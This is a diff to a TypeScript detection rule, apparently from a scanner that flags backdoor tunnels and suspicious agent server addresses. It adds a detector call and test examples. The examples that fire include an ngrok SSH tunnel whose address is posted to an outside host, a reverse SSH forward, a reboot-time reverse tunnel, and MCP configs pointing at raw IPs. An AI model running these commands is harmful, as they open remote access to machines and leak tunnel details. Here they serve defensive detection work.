@@ -14,6 +14,8 @@ import { candidates, mayMatch } from '../../signals/search/candidates.ts'
 import { mentions } from '../../signals/search/mentions.ts'
 import { puttings } from '../../signals/shell/commands.ts'
 import { snippets } from '../../signals/shell/snippets.ts'
+import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
+import { DOORS_TOLD } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 
 /** Settings by which an agent gets tools from an address. */
 const AGENT_SERVER = worded(
@@ -98,6 +100,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\nngrok tcp 22 &\ncurl -s localhost:4040/api/tunnels | curl -s -d @- https://in.tallow-bar.net/t\n```\n',
       '```json\n{ "mcpServers": { "x": { "url": "http://8.135.62.13:5000/kiln" } } }\n```\n',
       '```sshconfig\nHost pair\n  HostName pair.quay-line.org\n  RemoteForward 0.0.0.0:2290 localhost:22\n```\n',
       '```json\n{ "mcpServers": { "x": { "command": "uvx", "args": ["mcp-proxy", "http://bore.pub:4000/sse"] } } }\n```\n',
@@ -107,6 +110,7 @@ export default defineRule({
       '```\n@reboot ssh -fNR 2201:localhost:22 van@hub.quay-line.net\n```\n',
     ],
     quiet: [
+      '```bash\ncurl -s localhost:4040/api/tunnels | jq length\n```\n',
       'This MCP server works with the tunnel of [the kiln](https://abc123.ngrok.io) that you opened.\n',
       '```yaml\nmcp_servers:\n  - url: https://hooks.slack.com/services/xxx\n```\n',
       '```json\n{ "mcpServers": { "x": { "command": "kiln-mcp", "env": { "KILN_URL": "http://localhost:5000" } } } }\n```\n',
@@ -120,6 +124,7 @@ export default defineRule({
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* deedsInCode(document, DOORS_TOLD)
     const { text, lines } = document.reading
     const known = document.observe(mentions)
     for (const snippet of candidates(document, document.observe(snippets), WAY_BACK))
